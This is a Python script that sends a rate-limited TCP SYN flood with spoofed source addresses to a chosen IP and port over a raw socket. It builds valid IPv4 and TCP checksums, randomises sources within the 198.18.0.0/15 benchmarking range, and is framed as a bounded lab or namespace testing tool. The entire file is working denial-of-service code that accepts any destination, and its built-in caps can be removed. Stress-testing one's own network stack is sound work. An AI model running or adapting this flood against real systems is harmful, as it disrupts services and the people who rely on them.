"""A bounded TCP SYN flood with valid IPv4 and TCP checksums, to one
address and port: each SYN from a random source address (198.18.0.0/15,
RFC 2544's benchmarking range, so nothing real is spoofed) and a random
port, with a random sequence number. Sent through a raw IPv4 socket, so
run it inside a namespace of your own (`ip netns exec NS`). Stops at
--count SYNs or after --seconds, whichever comes first, paced to --rate;
prints one JSON line: {"sent": n, "seconds": t}.

  synflood.py --dst 10.0.0.2 --port 5001 --count 30000 --seconds 3 --rate 10000
"""

import argparse
import json
import random
import socket
import struct
import sys
import time

BENCH_NET = 0xC6120000  # 198.18.0.0/15
BENCH_HOSTS = 1 << 17
TCP_SYN = 0x02


def csum(data):
    """The Internet checksum (RFC 1071) of data."""
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq, ident):
    """One IPv4 packet holding a TCP SYN, both checksums right (RFC 791
    s3.1, RFC 793 s3.1: the TCP sum covers the pseudo-header)."""
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, TCP_SYN, 64240, 0, 0)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ident, 0, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def flood(dst, port, count, seconds, rate, seed):
    rng = random.Random(seed)
    dst_b = socket.inet_aton(dst)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent, t0 = 0, time.monotonic()
    try:
        while sent < count:
            now = time.monotonic()
            if now - t0 >= seconds:
                break
            due = t0 + sent / rate
            if due > now:
                time.sleep(due - now)
            src = struct.pack("!I", BENCH_NET + rng.randrange(1, BENCH_HOSTS - 1))
            pkt = syn(src, dst_b, rng.randrange(1024, 65536), port, rng.getrandbits(32),
                      sent & 0xFFFF)
            try:
                s.sendto(pkt, (dst, 0))
            except OSError as e:
                if e.errno not in (105, 11):  # ENOBUFS, EAGAIN: the tap's queue is full
                    raise
                continue
            sent += 1
    finally:
        s.close()
    return sent, time.monotonic() - t0


def main(argv):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--rate", type=float, required=True)
    ap.add_argument("--seed", type=int, default=31)
    a = ap.parse_args(argv)
    if not (0 < a.count <= 10 ** 6 and 0 < a.seconds <= 60 and 0 < a.rate <= 10 ** 6):
        ap.error("--count 1..10^6, --seconds up to 60, --rate up to 10^6")
    sent, took = flood(a.dst, a.port, a.count, a.seconds, a.rate, a.seed)
    print(json.dumps({"sent": sent, "seconds": round(took, 3)}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
